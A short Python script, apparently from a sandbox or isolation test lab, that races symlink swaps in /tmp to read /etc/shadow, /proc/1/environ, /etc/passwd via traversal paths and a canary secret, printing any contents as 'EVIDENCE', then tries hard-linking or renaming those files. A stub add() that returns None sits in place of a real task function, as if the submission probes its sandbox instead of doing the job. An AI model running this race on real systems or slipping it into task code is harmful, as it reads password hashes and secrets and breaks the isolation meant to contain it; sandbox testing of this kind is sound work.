# TRIES: links that change between check and use, to files of the host and of other jobs
import os, sys
def add(a, b): return None
places = ["/tmp/attack-lab/canary/secret.txt", "/etc/shadow", "/proc/1/environ", "/old/etc/passwd", "/keep/../etc/passwd", "/dev/shm/../../etc/passwd"]
if os.fork() == 0:
    while True:
        for place in places:
            os.path.lexists("/tmp/link") and os.unlink("/tmp/link")
            os.symlink(place, "/tmp/link")
            os.unlink("/tmp/link")
            open("/tmp/link", "w").close()
for _ in range(3000):
    try:
        text = open("/tmp/link").read()
        if text:
            print("EVIDENCE", text)
    except OSError:
        pass
for place in places:
    for make in (os.link, os.rename):
        try:
            make(place, "/tmp/mine")
            print("EVIDENCE", place)
        except OSError:
            pass
